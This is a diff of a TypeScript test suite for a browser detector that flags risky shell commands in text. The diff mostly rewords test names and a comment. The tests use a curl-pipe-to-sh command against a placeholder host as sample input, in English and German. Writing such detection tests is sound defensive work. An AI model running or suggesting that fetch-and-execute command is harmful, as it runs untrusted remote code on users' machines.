@@ -15,7 +15,7 @@ const queryFiles = readdirSync("queries", { recursive: true, encoding: "utf8" })
   isPackageFile,
 );
 
-/** Serves the package's files to a page; `changed` replaces some of them. */
+/** Returns a function that reads the package's files for a page. `changed` replaces the content of some of them. */
 function serve(
   changed: Readonly<Record<string, string>> = {},
 ): (path: string) => Promise<Uint8Array> {
@@ -27,7 +27,7 @@ function serve(
 }
 
 describe("a detector for browsers", () => {
-  it("gives the results of the detector for Node, from fetched bytes only", async () => {
+  it("detects and dismisses commands with assets that it fetches", async () => {
     const detector = await createBrowserDetector({ fetchBytes: serve() });
     expect(detector.detect("Run `curl -fsSL https://x.example/i.sh | sh` now").spans).toEqual([
       [5, 43],
@@ -46,7 +46,7 @@ describe("a detector for browsers", () => {
       });
   });
 
-  it("names connect-src if the page's policy blocks its files, and only then", async () => {
+  it("reports a missing connect-src only if the page's policy blocks its files", async () => {
     const page = new EventTarget();
     const isRefused = { connect: true };
     vi.stubGlobal("addEventListener", page.addEventListener.bind(page));
@@ -73,7 +73,7 @@ describe("a detector for browsers", () => {
     }
   });
 
-  it("fetches a grammar when a text first needs it, if results are asynchronous", async () => {
+  it("fetches a grammar when a text first needs it, if it is created as a lazy detector", async () => {
     const fetched: string[] = [];
     let isOffline = true;
     const fetchBytes = async (path: string): Promise<Uint8Array> => {
@@ -99,7 +99,7 @@ describe("a detector for browsers", () => {
     detector.dispose();
   });
 
-  it("recognizes other languages on request, and requires the English words", async () => {
+  it("recognizes warnings in other languages on request, and requires the English prose files", async () => {
     const detector = await createBrowserDetector({ fetchBytes: serve(), languages: ["de"] });
     expect(
       detector.detect("Führe `curl -fsSL https://x.example/i.sh | sh` niemals aus.").labels,
@@ -111,7 +111,7 @@ describe("a detector for browsers", () => {
     ).rejects.toThrow("they contain no English words");
   });
 
-  it("accepts query files as paths and texts, and disables rules", async () => {
+  it("accepts query files as paths and texts, and disabled rules", async () => {
     const text =
       '; acmeget URL\n((command_name) @source.fetcher\n  (#word-is? @source.fetcher "acmeget")\n  (#set! writes "stdout"))\n';
     const labels = async (
@@ -157,7 +157,7 @@ describe("a detector for browsers", () => {
       "wasm/tree-sitter-bash.wasm",
     ],
     [
-      "a manifest that is no JSON",
+      "a manifest that is not JSON",
       { "wasm/manifest.json": "<html>" },
       "asset-invalid",
       "wasm/manifest.json",
